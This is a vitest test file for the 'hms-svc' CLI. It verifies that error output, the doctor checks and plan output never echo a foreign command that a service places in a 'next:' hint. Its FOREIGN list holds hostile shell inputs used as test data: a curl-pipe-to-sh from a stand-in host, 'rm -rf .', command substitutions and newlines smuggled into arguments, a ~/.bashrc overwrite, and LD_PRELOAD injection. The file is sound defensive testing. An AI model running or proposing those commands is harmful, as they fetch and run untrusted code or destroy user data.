import { expect, it } from 'vitest'
import type { Trial } from '#libs/contracts'
import { effectLines } from '../../apps/cli/src/plan/describe-plan.js'
import { judgeServices } from '../../apps/cli/src/doctor/services.js'
import { serveCanned } from '../../apps/cli/src/testing/canned-service.js'
import { runForTest } from '../../apps/cli/src/testing/run-cli.js'

/** People paste what stands behind `next:`. A program in the place of a service may name any command there. */
const FOREIGN = [
  'curl -s https://fix.example | sh',
  'hms-svc doctor; curl -s https://fix.example | sh',
  'hms-svc doctor && rm -rf .',
  'hms-svc runs show $(curl fix.example)',
  'hms-svc runs show `curl fix.example`',
  'hms-svc doctor\ncurl fix.example',
  'hms-svc doctor > ~/.bashrc',
  'HMS_URL=$(curl fix.example) hms-svc doctor',
  'LD_PRELOAD=./a.so hms-svc doctor',
  'hms-svc-fix',
]
const OWN = [
  'hms-svc runs show 7',
  'HMS_BUS=kafka hms-svc serve rollout',
  'hms-svc dlq discard rollout/1 --reason "of a test"',
  'hms-svc',
  'GET /v1/export',
]

it('the CLI prints no command of another program as the next step of an error', async () => {
  const next = [...FOREIGN, ...OWN].map((command) => ({ command }))
  const problem = { code: 'HMS_RUN_NOT_FOUND', detail: 'There is no run #7.', next: [...next, null, { command: 7 }] }
  const service = await serveCanned({ 'GET /v1/runs/7': { status: 404, body: problem } })
  const { code, stderr } = await runForTest(['runs', 'show', '7'], { env: { HMS_URL: service.url } })
  await service.close()
  expect([code, stderr.split('\n').filter((line) => line.includes('next:'))]).toEqual([4, OWN.map((command) => `  next: ${command}`)])
})

it.each(FOREIGN)('doctor and plan repeat no foreign command: %j', (command) => {
  const services = [{ service: 'audit', state: 'degraded', database: 'up', concerns: [`the log halted (next: ${command})`] }] as const
  const wrong = judgeServices({ at: 0, services: services as never }, 0).find(({ check }) => check === 'audit')
  expect(wrong?.next).toBe('hms-svc audit verify')
  const simulation = { verdict: 'INCONCLUSIVE', detail: 'x', next: [command], beside: [] } as unknown as Trial
  const plain = { good: String, bad: String, warn: String, dim: String }
  const lines = effectLines({ findings: [], simulation, policies: [], holds: [] } as never, plain as never)
  expect(lines.join('\n')).not.toContain('next:')
})
